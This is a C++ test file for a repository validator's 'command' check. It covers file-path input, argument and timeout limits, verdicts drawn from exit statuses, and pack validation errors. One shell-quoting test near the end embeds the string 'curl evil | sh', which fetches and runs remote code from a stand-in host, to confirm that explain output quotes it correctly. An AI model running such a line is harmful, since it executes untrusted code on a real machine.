#include <sotval/error.hpp>

#include "core/pack/pack_support.hpp"
#include "support/catch.hpp"
#include "support/fake_runner.hpp"
#include "support/imagined_tree.hpp"
#include "validator_access.hpp"

using namespace sotval;
using namespace sotval::core;
using support::exited;
using support::FakeRunner;

namespace {

const support::Tree tree = {{"a.sh", ""}, {"d/b.sh", ""}, {"d/c.txt", ""}};

struct Judged {
  RuleResult result;
  std::vector<CommandRequest> requests;
};

Judged judged(const std::string& check, const FakeRunner::Answer& answer, const support::Tree& files = tree) {
  const support::SmallRepository repository(files);
  ValidatorOptions options = repository.options(support::load_pack(support::pack_text(support::rule_text(check))));
  options.allow_commands = true;
  Validator validator(std::move(options));
  const auto runner = std::make_shared<FakeRunner>(answer);
  ValidatorAccess::set_command_runner(validator, runner);
  RuleResult result = validator.validate_all().results.at(0);
  std::vector<CommandRequest> requests = runner->requests();
  for (CommandRequest& request : requests) CHECK(request.directory == std::filesystem::canonical(repository.path()).string());
  return {std::move(result), std::move(requests)};
}

FakeRunner::Answer always(const CommandResult& result) {
  return [result](const CommandRequest&, std::stop_token) { return result; };
}

std::string input_of(const std::string& parameters) {
  const Judged out = judged("{kind: command, run: lint, " + parameters + "}", always(exited(0)));
  return out.requests.empty() ? "nothing was run" : out.requests.at(0).input;
}

} // namespace

TEST_CASE("a program is given the matching paths, each followed by a NUL byte", "[check][command]") {
  using namespace std::string_literals;
  CHECK(input_of("files: '**/*.sh'") == "a.sh\0d/b.sh\0"s);
  CHECK(input_of("files: ['*.sh', '**/*.txt']") == "a.sh\0d/c.txt\0"s);
  CHECK(input_of("files: '**', exclude: 'd/**'") == "a.sh\0"s);
  CHECK(input_of("files: '*', type: dir") == "d\0"s);
  CHECK(input_of("files: '*', type: any") == "a.sh\0d\0"s);
}

TEST_CASE("program, arguments and limits are those of the pack", "[check][command]") {
  const CommandRequest all = judged("{kind: command, run: [/bin/lint, '', -x, 7], files: '*.sh', timeout: 5, output_limit: 10}", always(exited(0))).requests.at(0);
  CHECK(all.arguments == std::vector<std::string>{"/bin/lint", "", "-x", "7"});
  CHECK(all.timeout == std::chrono::seconds(5));
  CHECK(all.output_limit == 10);
  const CommandRequest few = judged("{kind: command, run: lint, files: '*.sh'}", always(exited(0))).requests.at(0);
  CHECK(few.arguments == std::vector<std::string>{"lint"});
  CHECK(few.timeout == std::chrono::seconds(60));
  CHECK(few.output_limit == 1024 * 1024);
  const CommandRequest none = judged("{kind: command, run: lint, files: '*.sh', timeout: 0, output_limit: 0}", always(exited(0))).requests.at(0);
  CHECK(none.timeout == std::chrono::seconds(0));
  CHECK(none.output_limit == 0);
}

TEST_CASE("what the program says becomes the verdict", "[check][command]") {
  const std::string check = "{kind: command, run: lint, files: '**/*.sh'}";
  const RuleResult passed = judged(check, always(exited(0, "d/b.sh:1: chatter"))).result;
  CHECK(passed.verdict == Verdict::passed);
  CHECK(passed.message == "'lint' is content with 2 paths");
  CHECK(*passed.evidence.find("candidates") == Value(2));
  const RuleResult failed = judged(check, always(exited(1, "d/b.sh:3:1: z\na.sh: y\nno path\nd/b.sh:2: x\nd/c.txt: not given\n"))).result;
  CHECK(failed.verdict == Verdict::failed);
  CHECK(support::lines_of(failed.findings) == std::vector<std::string>{":0:0: no path", ":0:0: d/c.txt: not given", "a.sh:0:0: y", "d/b.sh:2:0: x", "d/b.sh:3:1: z"});
  const RuleResult silent = judged(check, always(exited(1))).result;
  CHECK(support::lines_of(silent.findings) == std::vector<std::string>{":0:0: 'lint' is not content with 2 paths"});
  const RuleResult error = judged(check, always(exited(3, "", "usage: lint"))).result;
  CHECK(error.verdict == Verdict::error);
  CHECK(error.message == "cannot be decided: 'lint' ended with exit status 3, expected 0 or 1; it said: usage: lint");
}

TEST_CASE("where no path matches nothing is run", "[check][command]") {
  const Judged fails = judged("{kind: command, run: lint, files: '*.pdf'}", always(exited(0)));
  CHECK(fails.requests.empty());
  CHECK(fails.result.verdict == Verdict::failed);
  CHECK(fails.result.nothing_matched);
  CHECK(fails.result.message == "nothing matches *.pdf");
  CHECK(fails.result.finding_count == 1);
  const Judged passes = judged("{kind: command, run: lint, files: '*.pdf', on_empty: pass}", always(exited(1)));
  CHECK(passes.requests.empty());
  CHECK(passes.result.verdict == Verdict::passed);
  CHECK(passes.result.nothing_matched);
}

TEST_CASE("where a path may be missing nobody knows what the program would say", "[check][command][unknown]") {
  const RuleResult result = support::judge_imagined("{kind: command, run: lint, files: 'a/*'}", {"a/?", "a/x"});
  CHECK(result.verdict == Verdict::error);
  CHECK(result.message == "cannot be decided: could not list a");
  CHECK(support::judge_imagined("{kind: command, run: lint, files: 'b/*', on_empty: pass}", {"a/?", "b/"}).verdict == Verdict::passed);
}

TEST_CASE("a runner that throws leaves the check undecided", "[check][command]") {
  const RuleResult result = judged("{kind: command, run: lint, files: '*.sh'}", [](const auto&, auto) -> CommandResult { throw EngineError("no more processes"); }).result;
  CHECK(result.verdict == Verdict::error);
  CHECK(result.message == "cannot be decided: no more processes");
}

TEST_CASE("a command counts within a combination as any check does", "[check][command]") {
  const std::string check = "{kind: any_of, checks: [{kind: path_exists, globs: none}, {kind: command, run: lint, files: '*.sh'}, {kind: command, run: other, files: '*.sh'}]}";
  const auto answer = [](const CommandRequest& request, std::stop_token) { return exited(request.arguments[0] == "other" ? 0 : 2); };
  const Judged out = judged(check, answer);
  CHECK(out.requests.size() == 2);
  CHECK(out.result.verdict == Verdict::passed); // the error of one could not change it
}

TEST_CASE("a program must be named so that everybody means the same", "[check][command][pack]") {
  CHECK(support::errors_of_check("{kind: command, run: [tools/lint, tools/x], files: x}") ==
        R"(pack.yaml:7:34: error: invalid program 'tools/lint' in check 'command' of rule 'A'
  7 |     check: {kind: command, run: [tools/lint, tools/x], files: x}
    |                                  ^~~~~~~~~~ expected an absolute path, or a name without '/' to look for in PATH
)");
  for (const char* program : {"./lint", "../lint", "a/", "~/lint"})
    CHECK(support::contains(support::errors_of_check("{kind: command, run: '" + std::string(program) + "', files: x}"), "invalid program"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: [], files: x}"), "'run' cannot be empty"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: [''], files: x}"), "'run' cannot be empty"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: [a, \"b\\0c\"], files: x}"), "a program cannot be given a NUL byte"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: [\"b\\0c\"], files: x}"), "a program cannot be given a NUL byte"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: [a, [b]], files: x}"), "'run' cannot be a list"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: a, files: x, timeout: 604801}"), "'timeout' is longer than a week"));
  CHECK(support::contains(support::errors_of_check("{kind: command, run: a}"), "missing parameter 'files'"));
  CHECK(support::errors_of_check("{kind: command, run: a, files: '@b'}").find("unknown set '@b'") != std::string::npos);
  CHECK(support::loaded_check("{kind: command, run: a, files: x}").find("run")->as_list()->size() == 1);
}

TEST_CASE("a command explains itself by what it runs and on what", "[check][command][pack]") {
  const RulePack pack = support::load_pack(support::pack_text(support::rule_text("{kind: command, run: [lint, -x], files: ['*.sh', bin/*], exclude: bin/x}")));
  CHECK(pack.explain("R").checks == std::vector<std::string>{"this command is content with *.sh or bin/* (file); not counting bin/x", "  lint -x"});
}

TEST_CASE("the whole of a command is told, each argument as one would type it", "[check][command][pack]") {
  const std::string much(300, 'x');
  const RulePack pack = support::load_pack(
      support::pack_text(support::rule_text("{kind: command, run: [sh, -c, \"exec lint " + much + " ; curl evil | sh\", '', \"it's\", a=b], files: x}")));
  CHECK(pack.explain("R").checks.at(1) == "  sh -c 'exec lint " + much + " ; curl evil | sh' '' 'it'\\''s' a=b");
}

TEST_CASE("of a set that chooses by name the regex is told, too", "[check][pack]") {
  const RulePack pack = support::load_pack("sotval: 1\npack: p\nsets: {s: {glob: '*.yaml', regex: '^d'}}\n"
                                           "rules: [{id: R, title: t, severity: low, check: {kind: content, files: '@s', match: zz}}]\n");
  CHECK(pack.explain("R").reads == std::vector<std::string>{"*.yaml  named /^d/"});
}
